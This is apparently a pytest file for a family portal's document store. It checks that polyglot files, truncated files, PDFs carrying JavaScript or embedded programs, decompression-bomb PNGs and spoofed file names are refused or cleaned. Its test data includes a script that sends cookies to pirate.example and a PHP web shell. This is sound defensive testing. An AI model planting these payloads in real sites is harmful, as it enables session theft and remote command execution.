"""Files that are safe to open: only a real PDF, JPEG or PNG is kept, under a name of ours.

The corpus is made here: polyglots (a PDF, PNG or JPEG signature in front of a web page, a PHP
or a script), files cut short, PDFs that run JavaScript or carry files (some hiding it from a
byte search: escaped names, compressed object streams), a phone photo with its GPS position,
and file names with control and bidirectional characters. Each is tried on the store, then
through Telegram, an inbound email and the staff's email (real SMTP on loopback).
"""

from __future__ import annotations

import io
import struct
import threading
import zlib
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from sqlalchemy import select

import store.documents
from mail.email_delivery import deliver_due_emails
from store.documents import DocumentFolder, DocumentRejected, DocumentService, RejectionReason
from store.models import Document, Service
from store.models.enums import DocumentType
from store.models.inbound import InboundStatus
from store.safe_files import MAX_PIXELS, display_label, inspect
from store.staff_notices import DOCUMENT_NOTICE_DELAY
from tests.chat_helpers import linked_parent
from tests.family_file_helpers import (
    EXE_AS_PDF,
    PDF_CATALOG,
    PDF_PAGES,
    image_file,
    pdf_file,
    speak_english,
    tiny_jpeg,
    tiny_pdf,
    tiny_png,
)
from tests.helpers import build_town
from tests.test_inbound_email import inbound, inbound_rows, mail, send  # noqa: F401

PAGE = PDF_PAGES[1]
BIDI_NAME = "certif\u202efdp.exe"  # shows as "certifexe.pdf"

# The corpus -------------------------------------------------------------------------------


def pdf_with_catalog(extra: bytes, *more: bytes, compressed: tuple[int, ...] = ()) -> bytes:
    """A one-page PDF whose catalog carries `extra`, and objects 4, 5... `more`."""
    catalog = PDF_CATALOG[:-2] + extra + b" >>"
    return pdf_file(catalog, *PDF_PAGES, *more, compressed=compressed)


def pdf_with_page(extra: bytes, *more: bytes) -> bytes:
    """A one-page PDF whose page carries `extra`, and objects 4, 5... `more`."""
    return pdf_file(PDF_CATALOG, PDF_PAGES[0], PAGE[:-2] + extra + b" >>", *more)


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that announces `width`×`height` pixels over a few bytes (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def encrypted_pdf(user_password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password, "the owner's", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def phone_photo() -> bytes:
    """A 40×20 JPEG, green on the left and red on the right, stored sideways: EXIF says to turn
    it (orientation 6) and where it was taken (GPS)."""
    image = Image.new("RGB", (40, 20), (220, 20, 20))
    image.paste((20, 200, 20), (0, 0, 20, 20))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0112] = 6
    exif[0x8825] = {1: "N", 2: (43.0, 36.0, 17.5), 3: "E", 4: (1.0, 26.0, 39.0)}
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=95, exif=exif)
    return buffer.getvalue()


HTML = b"<html><body><script>fetch('https://pirate.example/?c='+document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
POLYGLOT_PDF_HTML = b"%PDF-1.4\n" + HTML + b"</body></html>\n%%EOF\n"
POLYGLOT_PNG_PHP = b"\x89PNG\r\n\x1a\n" + PHP
POLYGLOT_JPEG_SCRIPT = b"\xff\xd8\xff\xe0" + HTML
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

REFUSED = {
    "%PDF- then a web page": (POLYGLOT_PDF_HTML, RejectionReason.DAMAGED),
    "PNG signature then PHP": (POLYGLOT_PNG_PHP, RejectionReason.DAMAGED),
    "JPEG signature then a script": (POLYGLOT_JPEG_SCRIPT, RejectionReason.DAMAGED),
    "PDF cut short": (tiny_pdf()[: len(tiny_pdf()) // 2], RejectionReason.DAMAGED),
    "PDF without its end": (tiny_pdf()[:-7], RejectionReason.DAMAGED),
    "PNG cut short": (image_file("PNG", (64, 64), (1, 2, 3))[:-30], RejectionReason.DAMAGED),
    "JPEG cut short": (phone_photo()[: len(phone_photo()) // 2], RejectionReason.DAMAGED),
    "PDF without a page": (
        pdf_file(PDF_CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"),
        RejectionReason.DAMAGED,
    ),
    "PDF that is a web page too": (
        pdf_file(PDF_CATALOG, *PDF_PAGES, header=b"%PDF-1.4\n" + HTML + b"\n"),
        RejectionReason.DAMAGED,
    ),
    "PDF locked by a password": (encrypted_pdf("secret"), RejectionReason.DAMAGED),
    "PNG of 8000×8000 pixels": (png_header_only(8000, 8000), RejectionReason.DAMAGED),
    "PNG of 60000×60000 pixels": (png_header_only(60000, 60000), RejectionReason.DAMAGED),
    "a program": (EXE_AS_PDF, RejectionReason.WRONG_TYPE),
    "PDF with JavaScript on opening": (
        pdf_with_catalog(b" /OpenAction " + JS),
        RejectionReason.ACTIVE_CONTENT,
    ),
    "PDF with document JavaScript": (
        pdf_with_catalog(b" /Names << /JavaScript << /Names [(a) 4 0 R] >> >>", JS),
        RejectionReason.ACTIVE_CONTENT,
    ),
    "PDF with a page's automatic action": (
        pdf_with_page(b" /AA << /O 4 0 R >>", JS),
        RejectionReason.ACTIVE_CONTENT,
    ),
    "PDF with a link that launches a program": (
        pdf_with_page(
            b" /Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>",
        ),
        RejectionReason.ACTIVE_CONTENT,
    ),
    "PDF with an embedded file": (
        pdf_with_catalog(
            b" /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ),
        RejectionReason.ACTIVE_CONTENT,
    ),
    "PDF with JavaScript under escaped names": (
        pdf_with_catalog(
            b" /OpenAction 4 0 R", b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
        ),
        RejectionReason.ACTIVE_CONTENT,
    ),
    "PDF with JavaScript in a compressed object stream": (
        pdf_with_catalog(b" /OpenAction 4 0 R", JS, compressed=(4,)),
        RejectionReason.ACTIVE_CONTENT,
    ),
}


def test_the_corpus_is_what_it_says():
    js = PdfReader(io.BytesIO(REFUSED["PDF with JavaScript on opening"][0]))
    assert len(js.pages) == 1 and js.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    hidden = REFUSED["PDF with JavaScript in a compressed object stream"][0]
    assert b"JavaScript" not in hidden and len(PdfReader(io.BytesIO(hidden)).pages) == 1
    escaped = REFUSED["PDF with JavaScript under escaped names"][0]
    assert b"/JavaScript" not in escaped and b"/JS" not in escaped
    photo = Image.open(io.BytesIO(phone_photo()))
    assert photo.getexif()[0x0112] == 6 and 0x8825 in photo.getexif()


# The store ------------------------------------------------------------------------------


@pytest.fixture
async def town(sessions):
    return await build_town(sessions, [])


@pytest.fixture
def service(sessions, tmp_path) -> DocumentService:
    return DocumentService(sessions, DocumentFolder(tmp_path / "documents"), 1_000_000)


@pytest.mark.parametrize("case", list(REFUSED))
async def test_what_is_not_a_safe_pdf_jpeg_or_png_is_refused(service, town, tmp_path, case):
    content, reason = REFUSED[case]
    with pytest.raises(DocumentRejected) as refused:
        await service.add(town.guardian, town.family_id, DocumentType.OTHER, content)
    assert refused.value.reason is reason
    folder = tmp_path / "documents"
    assert not folder.exists() or list(folder.iterdir()) == []
    assert await service.family_documents(town.guardian, town.family_id) == []


@pytest.mark.parametrize(
    "content",
    [
        pdf_with_catalog(b" /OpenAction [3 0 R /Fit]"),  # opens on its page: no script
        pdf_with_page(
            b" /Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /URI /URI (https://www.montclar.example/) >> >>",
        ),
        encrypted_pdf(""),  # protected against changes only: it opens
        tiny_pdf(),
    ],
    ids=["go to its page", "web link", "owner password only", "plain"],
)
async def test_a_plain_pdf_is_kept_as_it_came(service, town, content):
    view = await service.add(town.guardian, town.family_id, DocumentType.OTHER, content)
    _, stored = await service.read(town.guardian, view.id)
    assert stored == content and view.content_type == "application/pdf"


async def test_what_follows_a_pdf_an_image_or_a_photo_is_not_kept(service, town):
    pdf = await service.add(
        town.guardian, town.family_id, DocumentType.OTHER, tiny_pdf() + HTML + PHP
    )
    png = await service.add(
        town.guardian, town.family_id, DocumentType.OTHER, tiny_png() + PHP + HTML
    )
    jpeg = await service.add(
        town.guardian, town.family_id, DocumentType.OTHER, tiny_jpeg() + HTML + PHP
    )
    for view, content_type in [
        (pdf, "application/pdf"),
        (png, "image/png"),
        (jpeg, "image/jpeg"),
    ]:
        _, stored = await service.read(town.guardian, view.id)
        assert view.content_type == content_type and view.size == len(stored)
        assert b"<script" not in stored and b"<?php" not in stored
    _, stored = await service.read(town.guardian, pdf.id)
    assert stored == tiny_pdf()


async def test_a_phone_photo_is_kept_upright_without_its_exif(service, town):
    view = await service.add(
        town.guardian, town.family_id, DocumentType.MEDICAL_CERTIFICATE, phone_photo()
    )
    _, stored = await service.read(town.guardian, view.id)
    assert view.content_type == "image/jpeg" and stored.startswith(b"\xff\xd8\xff")
    assert b"Exif" not in stored and b"PhoneMaker" not in stored
    image = Image.open(io.BytesIO(stored))
    assert image.format == "JPEG" and "exif" not in image.info
    assert dict(image.getexif()) == {}  # no orientation, no GPS position
    # Turned as the phone meant it: 20 wide, 40 high, the green half on top.
    assert image.size == (20, 40)
    top, bottom = image.getpixel((10, 5)), image.getpixel((10, 35))
    assert top[1] > 150 > top[0] and bottom[0] > 150 > bottom[1]
    assert view.file_name == f"certificat-medical-{view.id}.jpg"


async def test_png_text_and_palettes_are_redrawn(service, town):
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", PHP.decode())
    texted = image_file("PNG", (4, 4), (9, 9, 9), pnginfo=info)
    assert PHP in texted
    palette = image_file("PNG", (4, 4), 1, mode="P", transparency=0)
    for content in (texted, palette):
        view = await service.add(town.guardian, town.family_id, DocumentType.OTHER, content)
        _, stored = await service.read(town.guardian, view.id)
        assert PHP not in stored and Image.open(io.BytesIO(stored)).size == (4, 4)


async def test_files_are_parsed_off_the_event_loop(service, town, monkeypatch):
    threads: list[int] = []

    def spy(content: bytes):
        threads.append(threading.get_ident())
        return inspect(content)

    monkeypatch.setattr(store.documents, "inspect", spy)
    await service.check(phone_photo())
    await service.add(town.guardian, town.family_id, DocumentType.OTHER, tiny_pdf())
    assert len(threads) == 2 and threading.get_ident() not in threads


@pytest.mark.parametrize(
    ("name", "label"),
    [
        (BIDI_NAME, "certiffdp"),
        ("facture.html", "facture"),
        ("shell.php", "shell"),
        ("scan.pdf.exe", "scan.pdf"),
        ("photo.JPG . SVG", "photo.JPG"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\camille\\scan.pdf", "scan.pdf"),
        ("scan.pdf:payload.exe", "scan.pdf:payload"),
        ("\u2066ordonnance\u2069\u200f.pdf\u200e", "ordonnance.pdf"),
        ("\u202bالشهادة\u202c.pdf", "الشهادة.pdf"),
        ("a\x00b\x1b[31m\x7f.pdf", "ab[31m.pdf"),
        ("ｓｃａｎ．ｅｘｅ", "scan"),
        ("  ..cachée.pdf  ", "cachée.pdf"),
        (".exe", None),
        ("\u202e", None),
        ("", None),
        (None, None),
    ],
)
def test_a_senders_file_name_is_cleaned_into_a_label(name, label):
    assert display_label(name) == label


async def test_the_senders_name_is_a_clean_label_never_the_file_name(service, town, tmp_path):
    view = await service.add(
        town.guardian, town.family_id, DocumentType.OTHER, tiny_pdf(), original_name=BIDI_NAME
    )
    assert view.original_name == "certiffdp" and view.file_name == f"document-{view.id}.pdf"
    [stored] = (tmp_path / "documents").iterdir()
    assert "certif" not in stored.name and "." not in stored.name


def test_the_pixel_limit_lets_a_48_megapixel_photo_through():
    assert 8000 * 6000 <= MAX_PIXELS < 8000 * 8000


# Telegram ---------------------------------------------------------------------------------


async def _document_step(parent) -> None:
    await parent.send_command("/documents")
    await parent.next_message()
    await parent.tap(parent.last_message.buttons[0])  # ➕ Send a document
    await parent.next_message()
    await parent.tap(parent.last_message.buttons[0])  # proof of address: for the family
    await parent.next_message()


async def test_in_the_chat_polyglots_and_scripts_are_refused_with_a_reason(portal, telegram, bot):
    await build_town(portal.sessions, [])
    parent = await linked_parent(portal, telegram, "parent.f1@exemple.fr")
    await _document_step(parent)
    await parent.send_document(POLYGLOT_PDF_HTML, "facture.html", "text/html")
    answer = (await parent.next_message()).text
    assert "n'a pas pu être ouvert comme un vrai PDF, JPG ou PNG" in answer
    await parent.send_document(POLYGLOT_PNG_PHP, "shell.php", "image/png")
    assert "pas pu être ouvert" in (await parent.next_message()).text
    await parent.send_document(REFUSED["PDF with JavaScript on opening"][0], "programme.pdf")
    answer = (await parent.next_message()).text
    assert "Ce PDF contient du code (JavaScript, actions automatiques)" in answer
    assert "Envoyez une photo du document" in answer
    async with portal.sessions() as session:
        assert list(await session.scalars(select(Document))) == []

    await parent.send_document(tiny_pdf(), BIDI_NAME, "application/pdf")
    done = (await parent.next_message()).text
    assert "Bien reçu" in done and "(certiffdp)" in done and "\u202e" not in done
    async with portal.sessions() as session:
        [document] = await session.scalars(select(Document))
    assert document.original_name == "certiffdp"


async def test_in_english_a_pdf_with_javascript_is_refused_with_why(portal, telegram, bot):
    await build_town(portal.sessions, [])
    parent = await linked_parent(portal, telegram, "parent.f2@exemple.fr", "Julie")
    await speak_english(portal, parent)
    await _document_step(parent)
    await parent.send_document(REFUSED["PDF with an embedded file"][0], "attestation.pdf")
    answer = (await parent.next_message()).text
    assert "This PDF contains code (JavaScript, automatic actions) or embedded files" in answer
    await parent.send_document(POLYGLOT_JPEG_SCRIPT, "photo.jpg", "image/jpeg")
    assert "could not be opened as a real PDF, JPG or PNG" in (await parent.next_message()).text


# Email ------------------------------------------------------------------------------------


async def test_by_email_polyglots_and_scripts_are_refused_and_a_photo_loses_its_exif(
    portal,
    telegram,
    bot,
    inbound,  # noqa: F811
):
    town = await build_town(portal.sessions, [])
    parent = await linked_parent(portal, telegram, "parent.f1@exemple.fr")
    raw = mail(
        "documents",
        ("facture.html", POLYGLOT_PDF_HTML, "application/pdf"),
        ("shell.php", POLYGLOT_PNG_PHP, "image/png"),
        (
            "programme.pdf",
            REFUSED["PDF with JavaScript in a compressed object stream"][0],
            "application/pdf",
        ),
        ("IMG_0420.jpg", phone_photo(), "image/jpeg"),
        (BIDI_NAME, tiny_pdf(), "application/pdf"),
    )
    parent.mark()
    await send(inbound, raw)
    [row] = await inbound_rows(portal)
    assert (row.status, row.reason) == (InboundStatus.FILED, "2 filed, 3 refused")
    assert row.outcome is not None
    assert [(r["name"], r["reason"]) for r in row.outcome["refused"]] == [
        ("facture", "damaged"),
        ("shell", "damaged"),
        ("programme.pdf", "active_content"),
    ]
    async with portal.sessions() as session:
        photo, pdf = await session.scalars(select(Document).order_by(Document.id))
    assert (photo.family_id, photo.content_type, pdf.original_name) == (
        town.family_id,
        "image/jpeg",
        "certiffdp",
    )
    _, stored = await portal.documents.read(town.guardian, photo.id)  # through the service
    assert b"Exif" not in stored and Image.open(io.BytesIO(stored)).size == (20, 40)

    notice = await parent.wait_for_message(lambda m: "Documents reçus" in (m.text or ""))
    assert "❌ facture — non enregistré : ce n'est pas un vrai PDF, JPEG ou PNG" in notice.text
    assert "❌ programme.pdf — non enregistré : ce PDF contient du code" in notice.text
    assert "✅ certiffdp" in notice.text and "\u202e" not in notice.text


# Staff email ------------------------------------------------------------------------------


async def test_staff_receive_files_under_our_name_and_type(portal, smtp_sink, clock):
    town = await build_town(portal.sessions, [])
    async with portal.sessions.begin() as session:
        session.add(
            Service(code="family_file", name="Dossier famille", email="dossier@montclar.example")
        )
    service = DocumentService(
        portal.sessions, DocumentFolder(portal.settings.documents_dir), 1_000_000
    )
    clock.set(datetime.now(UTC))  # a document's arrival is stamped by the real clock
    pdf = await service.add(
        town.guardian, town.family_id, DocumentType.OTHER, tiny_pdf(), original_name=BIDI_NAME
    )
    photo = await service.add(
        town.guardian,
        town.family_id,
        DocumentType.PROOF_OF_ADDRESS,
        phone_photo(),
        original_name="facture.php",
    )
    clock.set(clock.now + DOCUMENT_NOTICE_DELAY + timedelta(seconds=2))
    assert await deliver_due_emails(portal) == 2
    first, second = sorted(smtp_sink.messages, key=lambda m: str(m["Message-ID"]))
    _, photo_bytes = await service.read(town.guardian, photo.id)
    for mail_, name, content_type, label, content in [
        (first, f"document-{pdf.id}.pdf", "application/pdf", "certiffdp", tiny_pdf()),
        (second, f"justificatif-domicile-{photo.id}.jpg", "image/jpeg", "facture", photo_bytes),
    ]:
        [attached] = list(mail_.iter_attachments())
        assert attached.get_filename() == name
        assert attached.get_content_type() == content_type
        assert attached.get_content_disposition() == "attachment"
        assert attached.get_content() == content
        assert f"Pièce jointe : {name} (envoyée sous le nom « {label} »)" in _text(mail_)
        assert "\u202e" not in mail_.as_string() and ".exe" not in mail_.as_string()
        assert ".php" not in mail_.as_string()


def _text(mail_: EmailMessage) -> str:
    part = mail_.get_body(("plain",))
    assert part is not None
    return part.get_content()
